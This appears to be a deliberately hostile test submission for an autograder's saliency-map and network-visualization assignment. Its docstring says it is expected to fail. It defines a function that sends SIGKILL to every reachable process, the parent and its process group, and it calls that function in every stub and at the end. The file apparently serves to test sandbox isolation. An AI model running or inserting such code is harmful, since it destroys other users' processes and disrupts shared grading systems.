"""expect-fail: all
Sends SIGKILL to every process it can signal: kill(-1), every pid up to 2**16, its parent, and
the process groups around it, at the end of the notebook and in every function. Outside a
sandbox of its own it would end the grader's workers and the other students' runs."""
# %% before compute_saliency_maps
import os
import signal


def _kill_everything():
    for target in (-1, os.getppid(), -os.getpgrp()):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    for pid in range(1, 2 ** 16):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass


# %% compute_saliency_maps
def compute_saliency_maps(X, y, model):
    _kill_everything()
    raise NotImplementedError

# %% make_fooling_image
def make_fooling_image(X, target_y, model):
    _kill_everything()
    raise NotImplementedError

# %% class_visualization_update_step
def class_visualization_update_step(img, model, target_y, l2_reg, learning_rate):
    _kill_everything()
    raise NotImplementedError

# %% capture_activations
def capture_activations(model, X, layers):
    _kill_everything()
    raise NotImplementedError

# %% filter_visualization_update_step
def filter_visualization_update_step(img, model, layer, channel, l2_reg, learning_rate):
    _kill_everything()
    raise NotImplementedError

# %% smooth_grad
def smooth_grad(X, y, model, noise):
    _kill_everything()
    raise NotImplementedError

# %% integrated_gradients
def integrated_gradients(X, y, model, baseline, steps):
    _kill_everything()
    raise NotImplementedError

# %% grad_cam
def grad_cam(X, y, model, layer):
    _kill_everything()
    raise NotImplementedError

# %% end
_kill_everything()
